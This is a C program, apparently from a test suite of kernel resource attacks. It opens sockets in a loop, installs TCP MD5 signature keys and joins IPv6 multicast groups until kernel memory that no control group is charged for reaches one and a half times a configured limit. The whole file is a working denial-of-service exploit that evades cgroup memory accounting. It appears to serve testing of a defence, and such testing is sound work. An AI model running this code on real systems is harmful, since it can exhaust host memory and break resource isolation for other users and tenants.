/* Has sockets join groups without end, and learn keys: memory of the kernel's that is charged to nobody.
 * goal: half as much memory again as the limit
 * stopped by: the ledger of pages that no control group pays for
 * first: ledger
 * second: -
 * alone: the kernel has limits on these for each socket only
 * ends: memory-limit, exit
 */
#include "attack.h"
#include <linux/tcp.h>
#include <net/if.h>
int main(void) {
    many_descriptors();
    size_t wanted = figure("ATTACK_MEMORY") / 2 * 3, got = 0;
    int all = 0, refused = 0;
    while (got < wanted && !refused) {
        int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), udp = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
        if (tcp < 0) break;
        size_t before = got;
        /* The kernel looks through those that it has for each new one: few for each socket are had sooner. */
        for (int i = 0; i < 200; i++, got += 180) {
            struct tcp_md5sig key = { .tcpm_keylen = 1, .tcpm_key = { 1 } };
            struct sockaddr_in *other = (struct sockaddr_in *)&key.tcpm_addr;
            *other = (struct sockaddr_in){ .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x0a000000 + i) };
            if (setsockopt(tcp, IPPROTO_TCP, TCP_MD5SIG, &key, sizeof key)) break;
        }
        for (uint32_t i = 0; udp >= 0 && i < 4; i++, got += 240) {
            struct ipv6_mreq group = { .ipv6mr_interface = if_nametoindex("lo") };
            uint32_t number = all * 4 + i;
            group.ipv6mr_multiaddr.s6_addr[0] = 0xff;
            group.ipv6mr_multiaddr.s6_addr[1] = 1;
            memcpy(&group.ipv6mr_multiaddr.s6_addr[12], &number, sizeof number);
            if (setsockopt(udp, IPPROTO_IPV6, IPV6_JOIN_GROUP, &group, sizeof group)) break;
        }
        all++;
        refused = got == before;
    }
    if (got >= wanted) reached("%zu bytes", got);
    return tried();
}
